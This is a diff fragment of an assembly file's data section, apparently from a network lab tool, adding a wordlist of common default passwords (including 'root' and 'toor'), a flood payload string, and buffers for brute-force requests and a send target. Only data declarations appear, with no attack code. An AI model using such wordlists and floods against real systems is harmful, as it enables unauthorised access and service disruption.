+w_123456:    .asciz "123456"
+w_password:  .asciz "password"
+w_admin:     .asciz "admin"
+w_12345678:  .asciz "12345678"
+w_qwerty:    .asciz "qwerty"
+w_123456789: .asciz "123456789"
+w_12345:     .asciz "12345"
+w_1234:      .asciz "1234"
+w_111111:    .asciz "111111"
+w_1234567:   .asciz "1234567"
+w_dragon:    .asciz "dragon"
+w_123123:    .asciz "123123"
+w_letmein:   .asciz "letmein"
+w_baseball:  .asciz "baseball"
+w_abc123:    .asciz "abc123"
+w_football:  .asciz "football"
+w_monkey:    .asciz "monkey"
+w_iloveyou:  .asciz "iloveyou"
+w_root:      .asciz "root"
+w_toor:      .asciz "toor"
+
+broadcast_mac:     .byte 0xff, 0xff, 0xff, 0xff, 0xff, 0xff
+zero_mac:          .byte 0, 0, 0, 0, 0, 0
+ping_data:         .ascii "hvlab ping: abcdefghijklmnopqrst"    # PING_DATA_LEN bytes
+flood_data:        .ascii "FLOOD junk junk!"                    # FLOOD_DATA_LEN bytes
 
 # ---- variables and buffers
         .balign 4
@@ -1622,3 +3459,25 @@ dgram_buf:  .space DGRAM_MAX + 8       # drecv: sender id, payload, NUL
         .balign 4096
 peek_buf:   .space BUF_SIZE             # what peek copies here
 ring_page:  .space 4096                 # our request ring (ring, rlog, race)
+
+# ---- the network's variables and buffers
+        .balign 4
+net_up:     .word 0                     # 1 once NET info answered: we have a NIC
+my_ip:      .word 0                     # our IPv4 address (10.0.0.11 = 0x0a00000b)
+ip_ident:   .word 0                     # the last IPv4 ident we sent
+wait_used:  .word 0                     # rounds the last wait_frame took
+want_ip:    .word 0                     # what the matchers look for
+want_port:  .word 0
+want_my_port: .word 0
+want_seq:   .word 0
+target_ip:  .word 0                     # where udp_to_target sends
+target_port: .word 0
+arp_count:  .word 0                     # entries in use
+arp_next:   .word 0                     # the entry a full cache overwrites next
+arp_cache:  .space ARP_SLOTS * ARP_ENTRY
+my_mac:     .space 8                    # 02:00:00:00:00:<domid>
+text_buf:   .space MAX_TEXT + 4         # a request being put together (brute)
+        .balign 4
+tx_buf:     .space FRAME_MAX + 2        # the frame being sent
+        .balign 4
+rx_buf:     .space FRAME_MAX + 2        # the frame received (+1 for put_udp_payload's NUL)
